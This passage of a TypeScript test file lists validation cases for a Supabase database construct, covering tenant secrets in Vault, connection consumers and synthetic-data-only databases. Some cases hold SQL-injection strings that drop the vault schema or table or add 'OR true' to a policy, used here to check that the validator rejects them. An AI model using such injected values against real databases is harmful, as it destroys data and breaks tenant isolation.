    ['supabase: addConnectionConsumer without a consumer', (app) => {
      new SupabaseDatabase(staging(app), 'Database', { auth: AUTH, allowedCidrs: CIDRS }).addConnectionConsumer(undefined as any);
    }, `${P} "connectionConsumers[0]": got undefined; expected a DatabaseConnectionConsumer: { name, maxInstances, connectionsPerInstance, mode?, role? }`],
    ['supabase: connection() with a mode as a string', (app) => {
      new SupabaseDatabase(staging(app), 'Database', { auth: AUTH, allowedCidrs: CIDRS }).connection({ mode: 'session' as any });
    }, `${P} "options.mode": got "session"; expected a DatabaseConnectionMode`],
    // tenant secrets in Vault
    ['supabase: tenant secrets without the Vault extension', db({ tenantSecrets: {} }), `${P} "extensions": got ["pgcrypto","pg_stat_statements"]; expected a list that includes "supabase_vault": "tenantSecrets" stores the secrets in Supabase Vault`],
    ['supabase: tenant secrets as true', db({ extensions: ['supabase_vault'], tenantSecrets: true }), `${P} "tenantSecrets": got true; expected an object of properties`],
    ['supabase: tenant-secret accessors in the vault schema itself', vault({ schema: 'vault' }), `${P} "tenantSecrets.schema": got "vault"; expected a schema of its own for the accessors, not one that PostgreSQL or Supabase manages`],
    ['supabase: tenant-secret accessors in an application schema', vault({ schema: 'public' }), `${P} "tenantSecrets.schema": got "public"; expected a schema of its own for the accessors, not an application schema ("schemas" lists "public": every role has privileges there)`],
    ['supabase: tenant-secret accessors exposed by the Data API', vault({ schema: 'seller_keys' }, { api: { exposedSchemas: ['public', 'seller_keys'] } }),
      `${P} "tenantSecrets.schema": got "seller_keys"; expected a schema the Data API does not expose ("api.exposedSchemas" lists "seller_keys")`],
    ['supabase: SQL injection through the tenant-secrets schema', vault({ schema: 'x"; DROP SCHEMA vault CASCADE; --' }), `${P} "tenantSecrets.schema": got "x\\"; DROP SCHEMA vault CASCADE; --"; expected a lowercase SQL identifier`],
    ['supabase: a tenant owner id that ends the statement', vault({ ownerId: '(select auth.uid())); DROP TABLE vault.secrets; --' }),
      `${P} "tenantSecrets.ownerId": got "(select auth.uid())); DROP TABLE vault.secrets; --"; ${SQL_EXPRESSION}`],
    ['supabase: a tenant owner id that is a condition', vault({ ownerId: '(select auth.uid()) OR true' }),
      `${P} "tenantSecrets.ownerId": got "(select auth.uid()) OR true"; expected the current owner's id as one SQL value, such as "(select auth.uid())" (this is an OR condition, not a value: the policy compares "the tenant" with the whole of it)`],
    ['supabase: a misspelt tenant-secrets prop', vault({ ownerID: 'x' }), `${P} "tenantSecrets.ownerID": got "x"; expected no such property`],
    // development databases: synthetic data only
    ['supabase: syntheticDataOnly in production', db({ syntheticDataOnly: true }, true), '[production/Database] invalid "syntheticDataOnly": got true; expected false in production (environment "production"): a production database holds real data'],
    ['supabase: syntheticDataOnly with open sign-ups', db({ syntheticDataOnly: true, auth: { signUp: SignUpPolicy.CONFIRMED_EMAIL } }),
      `${P} "auth.signUp": got <SignUpPolicy instance>; expected SignUpPolicy.INVITE_ONLY with syntheticDataOnly: open sign-ups would let real people put their own data into a synthetic-data database`],
    ['supabase: syntheticDataOnly as the string "true"', db({ syntheticDataOnly: 'true' }), `${P} "syntheticDataOnly": got "true"; expected true or false (a boolean, not a string)`],
    ['supabase: a development environment that claims to be production', (app) => {
      new SupabaseDatabase(new EnvironmentStack(app, 'development', { environment: new Environment({ name: 'development', production: true, project: 'acme' }) }), 'Database', { auth: AUTH, allowedCidrs: CIDRS, syntheticDataOnly: true });
    }, '[development/Database] invalid "syntheticDataOnly": got true; expected false in production (environment "development"): a production database holds real data'],
  ];
}
